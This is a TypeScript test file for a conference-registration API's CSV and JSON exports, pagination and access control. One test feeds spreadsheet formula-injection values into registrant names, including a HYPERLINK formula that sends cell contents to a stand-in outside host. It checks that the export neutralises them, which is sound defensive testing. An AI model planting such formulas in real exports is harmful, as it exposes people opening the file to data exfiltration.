import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { clientOf, codeOf, pointersOf } from './client.fixture.ts';
import { type Component, component, idOf } from './component.fixture.ts';

let service: Component;
beforeAll(async () => {
  service = await component();
});
afterAll(() => service.close());
const { call, created, pagesOf } = clientOf(() => service);

const csv = { accept: 'text/csv' };
const patienceMs = 5_000;

/** As RFC 4180 says it: what a spreadsheet would see. */
const cellsOf = (text: string): readonly (readonly string[])[] => {
  const rows: string[][] = [];
  let row: string[] = [];
  for (const [, quoted, plain = '', end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
    row.push(quoted?.replaceAll('""', '"') ?? plain);
    if (end === ',') continue;
    rows.push(row);
    row = [];
  }
  return rows;
};

const seatTypeId = idOf('seat type');
const total = { amount: 19900, currency: 'EUR' };
const ada = { firstName: 'Ada', lastName: 'Lovelace', email: 'ada@example.org' };
const minute = (n: number): string => `2027-03-01T09:${String(n % 60).padStart(2, '0')}:00.000Z`;

const placed = (conferenceId: string, orderId: string, placedAt: string) => ({
  type: 'OrderPlaced',
  data: {
    orderId,
    conferenceId,
    request: 1,
    items: [{ seatTypeId, name: 'Full pass', unitPrice: total.amount, quantity: 1 }],
    currency: total.currency,
    placedAt,
    reservationExpiresAt: '2027-03-01T10:15:00.000Z',
    releaseAt: '2027-03-01T10:29:00.000Z',
  },
});
const registered = (orderId: string, registrant: typeof ada) => ({ type: 'OrderRegistrantAssigned', data: { orderId, registrant } });

/** The seats of one order, all of them assigned. */
const attend = async (conferenceId: string, name: string, count: number, seatTypeName = 'Full pass', attendee = ada) => {
  const orderId = idOf(`${conferenceId}/${name}`);
  const seats = Array.from({ length: count }, (_, position) => ({ position, seatTypeId, seatTypeName }));
  await service.say(
    'orders',
    `SeatAssignments-${orderId}`,
    { type: 'SeatAssignmentsCreated', data: { orderId, conferenceId, seats } },
    ...seats.map(({ position }) => ({ type: 'SeatAssigned', data: { orderId, position, attendee } })),
  );
  return orderId;
};
const lines = async (url: string, token: string): Promise<number> => cellsOf((await call('GET', url, { token, headers: csv })).body).length;

describe('Orders as a table', () => {
  it('have a header line and a line each, with what is missing left empty', async () => {
    const { id, token } = await created();
    const url = `/v1/conferences/${id}/orders`;
    const [one, two] = [idOf(`${id}/1`), idOf(`${id}/2`)];
    await service.say('orders', `Order-${one}`, placed(id, one, minute(1)), registered(one, ada));
    await service.say('orders', `Order-${two}`, placed(id, two, minute(2)), { type: 'OrderCancelled', data: { orderId: two } });
    await vi.waitFor(async () => expect(await lines(url, token)).toBe(3), patienceMs);
    const answer = await call('GET', url, { token, headers: csv });
    expect([answer.statusCode, answer.headers['content-type'], answer.headers['content-disposition'], answer.headers.vary]).toEqual([
      200,
      expect.stringMatching(/^text\/csv; charset=utf-8/),
      'attachment; filename="orders.csv"',
      expect.stringMatching(/accept/i),
    ]);
    expect(answer.body.endsWith('\r\n')).toBe(true);
    expect(cellsOf(answer.body)).toEqual([
      ['id', 'state', 'total', 'currency', 'firstName', 'lastName', 'email', 'placedAt', 'paymentState'],
      [one, 'pending-reservation', '19900', 'EUR', 'Ada', 'Lovelace', 'ada@example.org', minute(1), 'none'],
      [two, 'cancelled', '19900', 'EUR', '', '', '', minute(2), 'none'],
    ]);
  });

  it('hold no cell that a spreadsheet would run, and none that breaks a line', async () => {
    const { id, token } = await created();
    const url = `/v1/conferences/${id}/orders`;
    const names = ['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx', 'He said "no", twice', 'two\r\nlines', 'a=b', "'quoted"];
    for (const [index, firstName] of names.entries()) {
      const orderId = idOf(`${id}/${index}`);
      const registrant = { firstName, lastName: `=HYPERLINK("https://example.org/?"&A1)`, email: 'x@example.org' };
      await service.say('orders', `Order-${orderId}`, placed(id, orderId, minute(index)), registered(orderId, registrant));
    }
    await vi.waitFor(async () => {
      const { body } = await call('GET', url, { token, headers: csv });
      expect(body.match(/HYPERLINK/g)).toHaveLength(names.length);
    }, patienceMs);
    const [, ...rows] = cellsOf((await call('GET', url, { token, headers: csv })).body);
    expect(rows.map((row) => row[4])).toEqual(names.map((name) => (/^[=+\-@\t\r]/.test(name) ? `'${name}` : name)));
    for (const row of rows) expect(row[5]).toBe(`'=HYPERLINK("https://example.org/?"&A1)`);
    // As JSON they are what they are: nothing is run there.
    const asJson = (await call('GET', url, { token })).json<{ items: { registrant: { firstName: string } }[] }>();
    expect(asJson.items.map(({ registrant }) => registrant.firstName)).toEqual(names);
  });
});

describe('Attendees as a table', () => {
  it('are all of them, however many, in the order of the pages', async () => {
    const { id, token } = await created();
    const url = `/v1/conferences/${id}/attendees`;
    const orderId = await attend(id, 'large', 230, '=Full, "pass"');
    await vi.waitFor(async () => expect(await lines(url, token)).toBe(231), patienceMs);
    const [header, ...rows] = cellsOf((await call('GET', url, { token, headers: csv })).body);
    expect(header).toEqual(['orderId', 'position', 'seatTypeName', 'firstName', 'lastName', 'email']);
    expect(rows).toEqual(
      Array.from({ length: 230 }, (_, position) => [orderId, String(position), `'=Full, "pass"`, 'Ada', 'Lovelace', 'ada@example.org']),
    );
    const page = await call('GET', `${url}?limit=2`, { token, headers: csv });
    expect([cellsOf(page.body).length, page.headers.link]).toEqual([3, expect.stringContaining('rel="next"')]);
  });

  it('are a table to who would rather have one, and JSON to everybody else', async () => {
    const { id, token } = await created();
    const url = `/v1/conferences/${id}/attendees`;
    const typeFor = async (accept: string) => (await call('GET', url, { token, headers: { accept } })).headers['content-type'];
    for (const accept of ['text/csv', 'text/csv;q=0.9, application/json;q=0.1', 'text/*'])
      expect(await typeFor(accept), accept).toMatch(/^text\/csv/);
    for (const accept of ['*/*', 'application/json', 'application/json, text/csv;q=0.5', 'text/html', 'nonsense', 'text/csv;q=0'])
      expect(await typeFor(accept), accept).toMatch(/^application\/json/);
    expect(cellsOf((await call('GET', url, { token, headers: csv })).body)).toHaveLength(1);
  });

  it('are shown to their organiser alone, and problems stay problems', async () => {
    const mine = await created();
    const other = await created();
    const url = `/v1/conferences/${mine.id}/attendees`;
    const refused = [
      [await call('GET', url, { headers: csv }), 401],
      [await call('GET', url, { token: other.token, headers: csv }), 404],
      [await call('GET', `${url}?limit=0`, { token: mine.token, headers: csv }), 400],
      [await call('GET', `${url}?after=nonsense`, { token: mine.token, headers: csv }), 400],
      [await call('GET', url, { token: mine.token, headers: { ...csv, 'consistency-token': 'nonsense' } }), 400],
    ] as const;
    for (const [answer, status] of refused)
      expect([answer.statusCode, answer.headers['content-type']]).toEqual([status, 'application/problem+json; charset=utf-8']);
  });
});

describe('Lists in pages', () => {
  type Attendee = { readonly orderId: string; readonly position: number };
  const named = ({ orderId, position }: Attendee): string => `${orderId}/${position}`;

  it('show everything that was there once, while more is added', async () => {
    const { id, token } = await created();
    const url = `/v1/conferences/${id}/attendees`;
    for (const name of ['a', 'b', 'c']) await attend(id, name, 20);
    await vi.waitFor(async () => expect(await lines(url, token)).toBe(61), patienceMs);
    const before = (await pagesOf<Attendee>(url, token, 100)).map(named);
    let more = 0;
    const shown = (await pagesOf<Attendee>(url, token, 7, () => attend(id, `more ${++more}`, 1).then(() => {}))).map(named);
    expect(new Set(shown).size).toBe(shown.length);
    expect(shown).toEqual(expect.arrayContaining(before));
    expect(shown).toEqual(shown.toSorted((a, b) => (a.slice(0, 36) < b.slice(0, 36) ? -1 : a.slice(0, 36) > b.slice(0, 36) ? 1 : 0)));
  });

  it('show every order once, whatever becomes of it meanwhile', async () => {
    const { id, token } = await created();
    const url = `/v1/conferences/${id}/orders`;
    const ids = Array.from({ length: 10 }, (_, n) => idOf(`${id}/${n}`));
    for (const [n, orderId] of ids.entries()) await service.say('orders', `Order-${orderId}`, placed(id, orderId, minute(n)));
    await vi.waitFor(async () => expect(await lines(url, token)).toBe(11), patienceMs);
    const cancel = async (orderId = '') => {
      await service.say('orders', `Order-${orderId}`, { type: 'OrderCancelled', data: { orderId } });
      await vi.waitFor(async () => {
        const { items } = (await call('GET', url, { token })).json<{ items: { id: string; state: string }[] }>();
        expect(items.find((order) => order.id === orderId)?.state).toBe('cancelled');
      }, patienceMs);
    };
    let pages = 0;
    // One that was shown, and one that is still to come.
    const shown = await pagesOf<{ id: string }>(url, token, 4, async () => {
      pages += 1;
      if (pages === 1) await Promise.all([cancel(ids[1]), cancel(ids[8])]);
    });
    expect(shown.map((order) => order.id)).toEqual(ids);
  });

  it('refuse a cursor of another list', async () => {
    const { id, token } = await created();
    const other = await created();
    await attend(id, 'a', 2);
    const url = `/v1/conferences/${id}/attendees`;
    await vi.waitFor(async () => expect(await lines(url, token)).toBe(3), patienceMs);
    const { next } = (await call('GET', `${url}?limit=1`, { token })).json<{ next: string }>();
    for (const answer of [
      await call('GET', `/v1/conferences/${id}/orders?after=${next}`, { token }),
      await call('GET', `/v1/conferences/${other.id}/attendees?after=${next}`, { token: other.token }),
      await call('GET', `/v1/conferences/${id}/seat-types?after=${next}`, { token }),
    ])
      expect([...codeOf(answer), pointersOf(answer)]).toEqual([400, 'invalid-request', ['#/after']]);
  });
});
